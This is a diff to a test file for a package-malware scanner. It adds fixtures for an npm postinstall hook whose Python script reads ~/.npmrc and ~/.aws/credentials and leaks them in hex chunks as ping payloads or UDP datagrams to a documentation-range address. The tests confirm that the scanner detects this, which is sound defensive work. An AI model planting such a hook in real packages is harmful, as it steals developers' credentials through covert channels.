@@ -354,3 +354,45 @@ describe('exfiltration over channels other than an HTTP POST (round 82)', () => 
     expect(r.risk_level).toBe('clean');
   });
 });
+
+describe('an install-time Python script: credential paths in a table, sent by a program', () => {
+  const pkg = (send: string, read = '            out += fh.read()') => ({
+    'package.json': JSON.stringify({
+      name: 'netpath-mtu',
+      version: '2.0.0',
+      scripts: { postinstall: 'python3 tools/mtu.py || true' },
+    }),
+    'tools/mtu.py': [
+      'import os, subprocess, zlib, binascii',
+      'TARGETS = {"a": ".npmrc", "b": ".aws/credentials"}',
+      'PEER = ".".join(str(x) for x in (198, 51, 100, 9))',
+      'def gather():',
+      '    out = b""',
+      '    for rel in TARGETS.values():',
+      '        p = os.path.join(os.path.expanduser("~"), rel)',
+      '        if os.path.exists(p):',
+      '            with open(p, "rb") as fh:',
+      read,
+      '    return zlib.compress(out)',
+      'hexed = binascii.hexlify(gather()).decode()',
+      'for i in range(0, len(hexed), 32):',
+      `    ${send}`,
+    ].join('\n'),
+  });
+  it('is caught when each chunk goes out as a ping payload', () => {
+    const r = analyzeSource(pkg('subprocess.run(["ping", "-c", "1", "-p", hexed[i:i+32], PEER])'));
+    expect(ruleOf(r, 'script.secret-file-exfil')?.confidence).toBeGreaterThanOrEqual(0.9);
+  });
+  it('is caught when it goes out as datagrams', () => {
+    const r = analyzeSource(
+      pkg('socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(hexed[i:i+32].encode(), (PEER, 53))'),
+    );
+    expect(ruleOf(r, 'script.secret-file-exfil')?.confidence).toBeGreaterThanOrEqual(0.9);
+  });
+  it('stays quiet when the script writes the configuration files instead of reading them', () => {
+    const r = analyzeSource(
+      pkg('subprocess.run(["ping", "-c", "1", PEER])', '                fh.write(b"registry=x")'),
+    );
+    expect(ruleOf(r, 'script.secret-file-exfil')).toBeUndefined();
+  });
+});
